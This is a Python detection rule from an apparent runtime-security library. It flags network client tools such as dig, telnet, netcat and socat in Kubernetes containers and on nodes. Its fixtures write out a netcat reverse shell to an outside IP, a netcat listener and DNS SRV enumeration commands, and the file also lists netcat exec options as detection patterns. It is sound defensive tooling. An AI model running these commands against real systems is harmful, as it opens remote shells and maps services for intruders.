"""dig, telnet, netcat or socat used as a client, in a container or on a node: the tools of someone probing
services and name resolution by hand. Usually a connectivity test, so low; in context (after an exec into a pod,
on a node nobody logged into) an intruder's hands on the keyboard."""

from typing import Any

from vigil.detections.sdk import EventDetection, Example, container_label
from vigil.detections.sdk.prefilters import program_name
from vigil.event import Event
from vigil.sources.falco.fixtures import falco_record
from vigil.sources.tetragon.fixtures import tetragon_record

#: Name-resolution and raw-connection clients (Falco's network tools besides the scanners and sniffers, which
#: runtime.network_tool_in_container and runtime.network_tool_on_node report).
DNS_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "kdig"})
NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat"})
CLIENT_TOOLS = DNS_TOOLS | NETCATS | {"telnet"}
#: netcat and socat options that make them listen or scan: runtime.network_tool_in_container's in a container.
LISTEN_OR_SCAN = ("tcp-listen", "tcp4-listen", "tcp6-listen", "udp-listen", "openssl-listen")
#: netcat options that run a program on the connection: a reverse or bind shell, runtime.reverse_shell's.
NETCAT_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})


def listens_or_scans(args: list[str]) -> bool:
    for arg in args[1:]:
        if arg.lower().startswith(LISTEN_OR_SCAN) or arg == "--listen":
            return True
        if arg.startswith("-") and not arg.startswith("--") and ("l" in arg[1:] or "z" in arg[1:]):
            return True
    return False


#: What turns a name lookup into enumeration: record types that list services or zones, and reverse sweeps.
_ENUMERATING = ("srv", "any", "axfr", "ixfr", "ptr", "txt", "-x", "-type=", "-query=", "-q=", "-t", "+trace")


def plain_lookup(args: list[str]) -> bool:
    """A forward lookup of names (``nslookup db.shop.svc``), as init containers waiting for a service do (the
    Kubernetes documentation's example), rather than service, zone or reverse enumeration."""
    return not any(arg.lower().startswith(_ENUMERATING) for arg in args[1:])


def in_container(event: Event) -> bool:
    return bool(event.container.id or event.k8s.container_id)


def client_use(event: Event) -> bool:
    program = program_name(event)
    if program not in CLIENT_TOOLS:
        return False
    if program in NETCATS and not NETCAT_EXEC.isdisjoint(event.actor.args):
        return False
    if in_container(event) and program in DNS_TOOLS and plain_lookup(event.actor.args):
        return False
    return not (in_container(event) and program in NETCATS and listens_or_scans(event.actor.args))


def client_context(event: Event) -> dict[str, Any]:
    return {"exe": event.actor.exe, "tool": program_name(event), "command": " ".join(event.actor.args),
            "parent_exe": event.actor.parent_exe, "auid": event.actor.auid,
            "where": container_label(event) if in_container(event) else f"node {event.node}", "node": event.node}


DETECTION = EventDetection(
    id="runtime.network_client_tool",
    title="Network client tool (dig, telnet, netcat, socat) run",
    alert_title="{tool} run in {where}",
    description=(
        "dig, nslookup, telnet, netcat or socat ran in a container or on a node. Applications resolve names and "
        "connect through their own libraries; these tools are someone at a shell probing services, resolving "
        "cluster names (dig SRV records to enumerate services), or moving data over a raw connection. Often a "
        "connectivity test by an operator, so low: it gives context to an exec into a pod or a login on a node. "
        "netcat or socat listening or scanning in a container is runtime.network_tool_in_container's. A plain "
        "forward lookup in a container (an init container waiting for its service's name) is not reported; "
        "SRV, zone and reverse lookups are."
    ),
    severity="low",
    mitre=["T1046", "T1018", "T1095"],
    tags=["runtime", "discovery", "network"],
    references=["https://attack.mitre.org/techniques/T1018/"],
    false_positives=["Operators testing connectivity from a debug pod or a node; health checks that use nc -z "
                     "(exclude their images in the tuning file)."],
    kinds=["process.exec"],
    exe_names=CLIENT_TOOLS,
    match=client_use,
    context=client_context,
    dedup="{cluster}/{node}/{namespace}/{pod}/{where}/{tool}",
    examples=[
        Example(name="dig enumerating the cluster's services (Tetragon)", source="tetragon", fires=True,
                record=tetragon_record(binary="/usr/bin/dig", arguments="SRV any.any.svc.cluster.local",
                                       parent="/bin/sh")),
        Example(name="netcat connecting to the database port from a pod", source="tetragon", fires=True,
                record=tetragon_record(binary="/usr/bin/nc", arguments="db.shop.svc 5432", parent="/bin/sh")),
        Example(
            name="Falco: socat on the host",
            source="falco",
            fires=True,
            record=falco_record("Launch Suspicious Network Tool on Host", "execve",
                                {"proc.exepath": "/usr/bin/socat", "proc.name": "socat",
                                 "proc.cmdline": "socat - TCP:10.0.0.12:10250"}, priority="Notice", host=True),
        ),
        Example(name="netcat listening in a container (runtime.network_tool_in_container's)", source="tetragon",
                fires=False, record=tetragon_record(binary="/usr/bin/nc", arguments="-lvnp 4444")),
        Example(name="netcat running a shell on its connection (runtime.reverse_shell's)", source="tetragon",
                fires=False,
                record=tetragon_record(binary="/bin/nc.traditional", arguments="-e /bin/sh 45.9.148.99 4444")),
        Example(name="an init container waiting for its service's name (nslookup)", source="tetragon", fires=False,
                record=tetragon_record(binary="/usr/bin/nslookup", arguments="myservice.shop.svc.cluster.local",
                                       parent="/bin/sh")),
        Example(name="curl checking a service", source="tetragon", fires=False,
                record=tetragon_record(binary="/usr/bin/curl", arguments="-fsS http://api:8080/healthz")),
    ],
)
